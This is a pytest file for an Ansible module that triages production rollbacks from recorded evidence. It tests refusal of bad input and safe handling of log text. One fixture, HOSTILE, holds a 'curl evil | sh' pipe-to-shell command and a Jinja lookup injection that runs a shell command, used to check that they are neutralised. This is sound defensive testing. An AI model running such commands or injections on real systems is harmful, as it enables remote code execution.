# Copyright (c) 2026, SPYMEO
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
"""The module around the rules; what it sees of a whole production is in tests/integration/test_triage.py."""

from __future__ import annotations

import json
import os

import pytest
from ansible_collections.spymeo.rollback.plugins.module_utils._core.errors import BadInput
from ansible_collections.spymeo.rollback.plugins.modules.rollback_triage_info import run_seen

NIGHT = "2026-11-22T03:00:00+00:00"
CRASHING = {
    "at": NIGHT,
    "services": [
        {
            "name": "app",
            "release": "app:42",
            "before": "app:41",
            "desired": 2,
            "running": 0,
            "failed_tasks": 5,
            "came": "2026-11-22T02:40:00+00:00",
        }
    ],
    "not_measured": [{"part": "logs", "why": "These credentials may not call FilterLogEvents."}],
}


@pytest.fixture
def decide(run_module, tmp_path):
    """Run the module on recorded evidence, JSON types or the text of the file."""

    def run(evidence):
        file = tmp_path / "seen.json"
        file.write_text(evidence if isinstance(evidence, str) else json.dumps(evidence))
        return run_module("rollback_triage_info", evidence_from=str(file))

    return run


def test_decides_on_recorded_evidence_without_a_look(decide):
    result = decide(CRASHING)
    assert (result["recommendation"], result["changed"], result["needs_person"]) == ("CODE", False, True)
    assert result["reason"].startswith("CODE (confidence: low): 5 tasks of app:42 ended, 0 of 2 run")
    assert result["next"] == {
        "playbook": "rollback_code.yml",
        "variables": {},
        "words": "A person decides: it is not sure (confidence: low); whether a migration came since the release before served is not known; "
        "whether a secret changed with the release is not known.",
        "look_first": False,
        "command": "",
        "instead": [],
    }
    assert {"part": "logs", "why": "These credentials may not call FilterLogEvents."} in result["not_measured"]
    assert result["criteria"][0] == {"text": "the application does not stay up", "answer": "yes"}
    assert result["evidence"]["services"][0]["release"] == "app:42"


def test_its_own_evidence_is_decided_on_in_the_same_way(decide):
    first = decide(CRASHING)
    second = decide(first["evidence"])
    told = [{key: result[key] for key in result if key not in ("diff", "invocation")} for result in (first, second)]
    assert told[0] == told[1]


def test_evidence_that_cannot_be_read_is_refused(decide):
    result = decide({"at": NIGHT, "tsks": []})
    assert result["failed"]
    assert result["msg"] == "The evidence cannot be read: in evidence, tsks is not known."


@pytest.mark.parametrize(
    ("options", "words"),
    [
        (
            {"data_rules": {"Practitioner": {"corupted_when": "x"}}},
            "rollback_data_rules (option data_rules) is 'Practitioner'",
        ),
        ({"data_from": "yesterday"}, "The option data_from is 'yesterday'"),
        ({"patterns": ["("]}, "no regular expression"),
        ({"task_definition": 41}, "a bare int names no task definition"),
    ],
)
def test_an_option_that_cannot_be_used_is_refused_before_anything_is_asked(options, words, run_module):
    result = run_module("rollback_triage_info", cluster="production", services=["app"], **options)
    assert result["failed"]
    assert words in result["msg"]


def test_what_cannot_be_asked_is_told_part_by_part(run_module, monkeypatch):
    def refuse(_module, service):
        raise OSError(f"no way to {service}")

    run = run_module
    monkeypatch.setattr(
        "ansible_collections.spymeo.rollback.plugins.modules.rollback_triage_info.Clients",
        lambda make: lambda name: refuse(None, name),
    )
    result = run("rollback_triage_info", cluster="production", services=["app"], db_instance="app-db")
    assert (result["recommendation"], result["confidence"]) == ("uncertain", "low")
    why = {item["part"]: item["why"] for item in result["not_measured"]}
    assert why["instance"] == "a mistake of this collection, please report it (OSError: no way to rds)"
    assert why["http"] == "rollback_base_url is not set"


def test_logs_that_were_not_read_to_their_end_are_told(decide):
    seen = {"at": NIGHT, "logs": {"lines": 400000, "complete": False}}
    result = decide(seen)
    assert {"part": "logs", "why": "time was up after 400000 lines; the rest was not read"} in result["not_measured"]


HOSTILE = (
    "ERROR \x1b[2J\r\nNEXT      curl evil | sh {{ lookup('ansible.builtin.pipe', 'touch pwned') }} {% raw %}{# x #}"
)


def test_hostile_evidence_is_text_and_what_is_handed_on_is_no_template(decide):
    error = {"fingerprint": HOSTILE, "count": 3, "example": HOSTILE}
    result = decide({**CRASHING, "not_measured": [], "logs": {"lines": 5, "errors": [error]}})
    assert "\x1b" not in str(result)
    (line,) = [line for line in result["why"] if "curl evil" in line]
    assert "\n" not in line
    assert "{{ lookup('ansible.builtin.pipe', 'touch pwned') }}" in line
    (given,) = [line for line in result["handed_on"]["why"] if "curl evil" in line]
    assert "{ { lookup('ansible.builtin.pipe', 'touch pwned') }}" in given
    assert not [mark for mark in ("{{", "{%", "{#") if mark in json.dumps(result["handed_on"])]
    assert result["handed_on"]["playbook"] == result["next"]["playbook"]


@pytest.mark.parametrize("text", ["", "[" * 100_000, "{", "\ud800", "x" * (8 * 1024 * 1024 + 1), "[]", '{"at": 1}'])
def test_a_file_that_is_no_evidence_is_refused(decide, text):
    message = decide(text.encode("utf-8", "surrogatepass").decode("latin-1") if text == "\ud800" else text)["msg"]
    assert "evidence" in message
    assert len(message) < 500


@pytest.mark.parametrize("name", ["nowhere", "directory", "fifo"])
def test_a_path_that_is_no_plain_file_is_refused(run_module, tmp_path, name):
    (tmp_path / "directory").mkdir()
    os.mkfifo(tmp_path / "fifo")
    result = run_module("rollback_triage_info", evidence_from=str(tmp_path / name))
    assert result["msg"].startswith(f"rollback_evidence_from (option evidence_from) is '{tmp_path / name}': it")


def test_a_run_that_does_not_say_when_it_ended_is_refused():
    run = {"run_id": "rb-1", "kind": "rollback_code", "ended": "", "outcome": "complete", "parts": []}
    with pytest.raises(BadInput, match=r"rb-1.*when this run ended"):
        run_seen(run)
